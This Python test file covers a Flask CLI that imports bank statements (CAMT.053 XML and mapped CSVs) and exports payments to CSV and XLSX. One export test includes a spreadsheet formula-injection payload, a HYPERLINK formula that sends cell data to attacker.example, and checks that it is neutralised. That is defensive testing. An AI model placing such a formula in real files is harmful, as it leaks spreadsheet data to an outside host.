"""`flask payments import FILE [--account IBAN] [--mapping JSON] [--dry-run] [--json]` and `flask payments export`."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import func, select

from portal.extensions import db
from portal.models import BankImportMapping, CustomerBankAccount, Payment, PaymentImport
from tests.support import factories
from tests.support.paths import DATA
from tests.support.receivables import rate

BANK = DATA / "bank"
CAMT = BANK / "camt053_v02_batch.xml"
OURS = "DE89370400440532013000"


def run(app, *args):
    return app.test_cli_runner().invoke(args=["payments", *map(str, args)])


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def customers():
    rate("EUR", date(2026, 12, 1), "1.05")
    acme = factories.CustomerFactory(name="Acme Logistics GmbH")
    db.session.add(CustomerBankAccount(customer=acme, iban="DE02120300000000202051"))
    db.session.commit()  # a command that fails rolls its session back: keep the test's rows out of that
    return acme


def test_import_reports_in_json_and_a_second_run_creates_nothing(app):
    acme = customers()
    result = run(app, "import", CAMT, "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert {key: report[key] for key in ("file", "format", "account", "counts", "unidentified", "dry_run",
                                         "already_imported")} == {
        "file": "camt053_v02_batch.xml", "format": "camt053", "account": OURS,
        "counts": {"payment": 3, "duplicate": 0, "skipped": 1, "error": 0}, "unidentified": 2, "dry_run": False,
        "already_imported": None}
    record = db.session.get(PaymentImport, report["import_id"])
    assert (record.sha256, record.payments, record.imported_by.startswith("cli:")) == (report["sha256"], 3, True)
    first = report["rows"][0]
    assert {key: first[key] for key in ("row", "status", "reason", "value_date", "amount", "currency", "payer_name",
                                        "payer_iban", "bank_reference", "customer", "matched_by")} == {
        "row": 1, "status": "payment", "reason": "", "value_date": "2026-12-03", "amount": "1071.00",
        "currency": "EUR", "payer_name": "Acme Logistics GmbH", "payer_iban": "DE02120300000000202051",
        "bank_reference": "2026120300001", "customer": f"{acme.code} — Acme Logistics GmbH", "matched_by": "iban"}
    assert report["rows"][3]["status"] == "skipped" and report["rows"][3]["where"].endswith("Stmt 1, Ntry 3")
    payments = count(Payment)
    again = run(app, "import", CAMT)
    assert again.exit_code == 0, again.output
    assert again.stdout.strip() == (f"camt053_v02_batch.xml: already imported as import {record.id} by "
                                    f"{record.imported_by}; nothing created.")
    assert count(Payment) == payments


def test_a_dry_run_previews_and_writes_nothing(app):
    customers()
    result = run(app, "import", CAMT, "--dry-run")
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == ("camt053_v02_batch.xml (camt053), dry run: 3 payments (2 unidentified), "
                                     "0 duplicates, 1 skipped, 0 errors; nothing written.")
    assert "skipped   line " in result.stderr and "outgoing debit" in result.stderr
    assert (count(Payment), count(PaymentImport)) == (0, 0)


def test_a_csv_is_imported_with_its_mapping_which_is_remembered_for_the_account(app, tmp_path):
    customers()
    mapping = tmp_path / "deutsche-bank.json"
    mapping.write_text(json.dumps({
        "date_column": "Buchungstag", "value_date_column": "Wert", "debit_column": "Soll", "credit_column": "Haben",
        "currency_column": "Währung", "payer_name_column": "Begünstigter / Auftraggeber", "payer_iban_column": "IBAN",
        "reference_column": "Kundenreferenz", "text_columns": ["Verwendungszweck"], "decimal_separator": ",",
        "thousands_separator": ".", "header_row": 5, "footer_rows": 1}), encoding="utf-8")
    missing = run(app, "import", BANK / "deutsche_bank_soll_haben.csv", "--account", OURS)
    assert missing.exit_code == 1 and "Error: mapping: no column mapping is remembered" in missing.stderr
    result = run(app, "import", BANK / "deutsche_bank_soll_haben.csv", "--account", "DE89 3704 0044 0532 0130 00",
                 "--mapping", mapping, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["counts"] == {"payment": 3, "duplicate": 0, "skipped": 1, "error": 0}
    assert db.session.scalar(select(BankImportMapping.settings["debit_column"].as_string())) == "Soll"


def test_a_broken_file_is_refused_with_its_line_and_nothing_is_written(app, tmp_path):
    broken = tmp_path / "statement.xml"
    broken.write_bytes(CAMT.read_bytes()[:1500])
    result = run(app, "import", broken)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: file: statement.xml: not well-formed XML (")
    assert "line " in result.stderr
    bad_mapping = tmp_path / "mapping.json"
    bad_mapping.write_text("{date_column: Datum}")
    refused = run(app, "import", BANK / "uk_signed_amounts.csv", "--account", "GB33BUKB20201555555555",
                  "--mapping", bad_mapping)
    assert refused.exit_code == 1 and refused.stderr.startswith("Error: mapping: mapping.json is not JSON")
    assert (count(Payment), count(PaymentImport)) == (0, 0)


def test_export_writes_csv_with_formulas_neutralised_and_an_xlsx_workbook(app, tmp_path):
    rate("GBP", date(2026, 11, 30), "1.27")
    mapping = tmp_path / "starling.json"
    mapping.write_text(json.dumps({"date_column": "Date", "amount_column": "Amount (GBP)", "currency": "GBP",
                                   "payer_name_column": "Counter Party", "text_columns": ["Reference"],
                                   "date_formats": ["%d/%m/%Y"], "thousands_separator": ","}))
    imported = run(app, "import", BANK / "uk_signed_amounts.csv", "--account", "GB33BUKB20201555555555",
                   "--mapping", mapping)
    assert imported.exit_code == 0, imported.output
    result = run(app, "export", "--format", "csv", "--unidentified")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0][:4] == ["Payment", "Value date", "Amount", "Currency"]
    assert [(row[1], row[2], row[5], row[11]) for row in rows[1:]] == [
        ("2026-12-03", "99.00", "Unidentified", '\'=HYPERLINK("http://attacker.example/?d="&A1,"Details")'),
        ("2026-12-02", "300.00", "Unidentified", "INV 2026 000202"),
        ("2026-12-01", "1250.00", "Unidentified", "INV-2026-000201")]
    workbook_file = tmp_path / "payments.xlsx"
    assert run(app, "export", "--format", "xlsx", "-o", workbook_file).exit_code == 0
    sheet = load_workbook(workbook_file, read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][2] == 99 and values[1][11].startswith("'=HYPERLINK")
    no_output = run(app, "export", "--format", "xlsx")
    assert no_output.exit_code == 2 and "--output is required for XLSX" in no_output.stderr
